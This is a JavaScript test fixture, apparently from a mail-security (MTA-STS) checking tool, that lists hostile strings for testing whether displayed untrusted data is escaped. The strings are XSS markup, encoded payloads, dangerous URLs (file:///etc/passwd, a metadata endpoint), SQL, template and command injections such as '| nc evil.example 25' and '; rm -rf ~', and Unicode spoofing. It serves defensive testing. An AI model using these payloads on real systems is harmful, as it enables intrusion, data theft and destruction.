// What a stranger may write where this page shows what strangers wrote: banners, policies, certificates, DNS, HTTP fields, links,
// files. Whatever of it ran would set `window.pwned`.

const RUN = 'window.pwned=1';

/** Markup that runs where it becomes markup. */
const MARKUP = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script>/*`, `*/${RUN}</script>`,
  `</script><script>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\x0b>${RUN}</script>`, `<script/x>${RUN}</script>`,
  `<script type=module>${RUN}</script>`, `<script type="text/template">${RUN}</script>`, `<noscript><img src=x onerror=${RUN}></noscript>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<IMG SRC=x OnErRoR=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror=${RUN}//`,
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `--><img src=x onerror=${RUN}>`, `]]><img src=x onerror=${RUN}>`,
  `<img src=https://evil.example/pixel>`, `<img srcset="https://evil.example/a 1x">`, `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src=https://evil.example/>`,
  `<object data="javascript:${RUN}"></object>`, `<object data=https://evil.example/x.swf>`, `<embed src="javascript:${RUN}">`, `<applet code=X>`,
  `<body onload=${RUN}>`, `<body background=https://evil.example/x>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `</textarea><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`, `</code><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `</template><script>${RUN}</script>`,
  `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=preload as=script href=https://evil.example/x.js>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<base href=https://evil.example/>`, `<form action=https://evil.example/><button autofocus>`, `<button form=check-form formaction=https://evil.example/>x`,
  `<style>*{background:url(https://evil.example/x)}</style>`, `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:red">cover</div>`, `<a href="javascript:${RUN}" autofocus>x</a>`, `<a ping=https://evil.example/ href=#>x</a>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, `<x id=check-form name=check-form>`, `<form id=mtaSts><input name=report>`,
  `<dialog open>x</dialog>`, `<portal src=https://evil.example/>`, `<!--[if IE]><script>${RUN}</script><![endif]-->`, `<!doctype x [<!entity y SYSTEM "file:///etc/passwd">]>&y;`,
  `<?xml-stylesheet href="https://evil.example/x.xsl"?>`, `<![CDATA[<script>${RUN}</script>]]>`, `<plaintext>`, `<xmp><script>${RUN}</script></xmp>`, `<a\0b>`, `<\0script>${RUN}</script>`,
  `<noembed><img src=x onerror=${RUN}></noembed>`, `<p id="</p><img src=x onerror=${RUN}>">`, `<style><img title="</style><img src=x onerror=${RUN}>">`,
];

/** What a decoder too many would make markup or code of. */
const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `&#x3C;img src=x onerror=${RUN}&#x3e;`, `&amp;lt;script&amp;gt;`, `&nbsp;&shy;&zwj;&lrm;`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `\\u003cimg src=x onerror=${RUN}\\u003e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%E2%80%AE`, `%00`, `%0d%0aSet-Cookie: a=b`, `\r\nSet-Cookie: a=b`, `\r\n\r\n<script>${RUN}</script>`, `=?utf-8?q?=3Cscript=3E?=`, `\ufeff<script>${RUN}</script>`, `＜script＞${RUN}＜/script＞`, `‹script›`, `\u2028${RUN}\u2029`,
];

/** URLs that run, call out, or look like others. */
const URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\x01javascript:${RUN}`, `javascript://%0a${RUN}`, `javascript:/*--></script>*/${RUN}`,
  `vbscript:msgbox(1)`, `data:text/html,<script>parent.pwned=1</script>`, `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`, `blob:https://evil.example/1`, `filesystem:https://evil.example/x`,
  `file:///etc/passwd`, `view-source:https://evil.example/`, `about:blank`, `chrome://settings`, `//evil.example/x`, `///evil.example`, `\\\\evil.example\\share`, `/\\evil.example/`, `https:evil.example`, `https:///evil.example`,
  `https://user:secret@evil.example/`, `https://mta-sts.example.com@evil.example/.well-known/mta-sts.txt`, `https://evil.example\\@mta-sts.example.com/`, `https://evil.example#@mta-sts.example.com`, `https://[::1]:25/`, `https://127.1/`,
  `https://0x7f.0.0.1/`, `https://2130706433/`, `https://evil.example:0/`, `https://evil.example:99999/`, `https://xn--e1awd7f.example/`, `https://еxample.com/`, `https://evil.example/%2e%2e/%2e%2e/`, `http://169.254.169.254/latest/meta-data/`, `mailto:a@b?subject=x&body=y`, `tel:+1900`,
  `?domain=evil.example`, `#domain=evil.example`, `&companion=https://evil.example`, `#draft=z&kind=policy`, `../../../../etc/passwd`, `ws://evil.example/`,
];

/** What other languages than HTML would take for their own. */
const OTHERS = [
  `{{constructor.constructor('${RUN}')()}}`, '${' + RUN + '}', `#{${RUN}}`, `<%= ${RUN} %>`, `{% include '/etc/passwd' %}`, `[[${RUN}]]`, `{{7*7}}`, `@{${RUN}}`, `$(touch /tmp/pwned)`, '`touch /tmp/pwned`',
  `; rm -rf ~`, `| nc evil.example 25`, `' OR 1=1 --`, `"; DROP TABLE domains; --`, `=HYPERLINK("https://evil.example","x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, `\t=1+1`,
  `[x](javascript:${RUN})`, `![x](https://evil.example/pixel)`, `[x]: javascript:${RUN}`, `<https://evil.example>`, `**bold** _it_ ~~no~~ # no heading`, '```\n</code>\n```', '``` ` ``', `| a | b |\n|---|---|`, `- [ ] task\n> quote`, `@everyone #1 :tada:`,
  `color:red;background:url(https://evil.example/x)`, `};*{display:none}`, `expression(${RUN})`, `@import url(https://evil.example/x.css);`, `/* */ } body { visibility: hidden`, `\\9 \\0 !important`,
  `__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty`, `{"__proto__":{"pwned":1}}`, `__proto__[pwned]=1`, `constructor.prototype.pwned=1`, `null`, `undefined`, `NaN`, `true`, `-0`, `1e999`, `[object Object]`, `0`,
  `"}],"entries":[{"by":"terminal"`, `\\","x":"`, `{"a":`, `'); ${RUN}; ('`, `\\'; ${RUN}; //`, `%s%s%s%n%n%p`, `%d {0} {1} {}`, `{host} {code}`,
];

/** What is shown in another way than it is written. */
const LETTERS = [
  '\u202ecod.elpmaxe', 'safe\u202e\u2066txt.exe\u2069\u2066', '\u2067\u2067\u2067\u2067', '\u200f\u200e\u061c', 'a\u200bb\u200cc\u200dd\u2060e', '\ufeff\ufeff', '\u00ad\u00ad\u00adsoft', 'مرحبا بالعالم: example.com', 'שלום <b>עולם</b>', '\u0000NUL\u0000',
  '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x1b[2J\x1b[H', '\x9b31m', '\x07\x08\x7f', '\b\b\b\bover', 'line\rover', 'a\vb\fc', '\x85\u2028\u2029', 'tab\ttab\ttab',
  `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(60)}algo`, `a${'\u0489'.repeat(300)}`, `${'\u0e49'.repeat(200)}`, '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20), '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}', '\u{1f1e9}\u{1f1ea}'.repeat(40), '\u{1f600}\ufe0f\u20e3', '\u{e0041}\u{e0042}\u{e007f}', '\ud800', '\udc00\ud800', 'a\udfffb', '\uffff\ufffe\u{10ffff}',
  '\ufdfa'.repeat(40), '\u3164\u3164', '\u2800\u2800\u2800', 'ｅｘａｍｐｌｅ．ｃｏｍ', 'раураl.example', 'ﬀﬁﬂ', 'İıſK', '𝕖𝕩𝕒𝕞𝕡𝕝𝕖', '﷽'.repeat(20), '𒐫𒐫𒐫𒐫', '꧅꧅꧅', '\ud83d',
];

/** What is longer than anything has room for. */
const LONG = [
  'x'.repeat(10_000), 'W'.repeat(2_000), '.'.repeat(1_000), `${'a'.repeat(63)}.`.repeat(4), 'word '.repeat(2_000), '\u3000'.repeat(500), '\u00a0'.repeat(1_000), '<'.repeat(5_000), '&'.repeat(3_000), '\n'.repeat(500), 'ي'.repeat(3_000), '`'.repeat(999), '`'.repeat(1_000), '<b>'.repeat(1_000), '\u{1f468}\u200d'.repeat(400), 'A\u0301'.repeat(1_000),
];

export const HOSTILE = [...MARKUP, ...ENCODED, ...URLS, ...OTHERS, ...LETTERS, ...LONG];

/** Names of hosts, label by label, in bytes: what DNS carries, and no host name has. */
export const LABELS = [
  ['<img src=x>'], ['<script>'], ['a.b'], ['..'], ['\xff\xfe\xfd'], ['\0'], ['a\0b'], ['\r\n'], ['"quoted"'], ["'"], ['\\'], ['\\000'], ['`'], ['${x}'], ['{{x}}'], [' '], ['   a   '], ['\x1b[31m'], ['%3Cb%3E'], ['&lt;'],
  ['\xe2\x80\xae'], ['\xcc\x81\xcc\x81\xcc\x81'], ['\xf0\x9f\x98\x80'], ['\xed\xa0\x80'], ['javascript:1'], ['//evil'], ['@'], ['#'], ['?'], ['*'], ['_'], ['-'], ['--'], ['xn--'], ['xn--zzzzzzz'], ['__proto__'], ['constructor'], ['x'.repeat(63)], ['\xff'.repeat(63)], Array.from({ length: 100 }, () => 'a'),
].map((labels) => labels.map((label) => Buffer.from(label, 'latin1')));
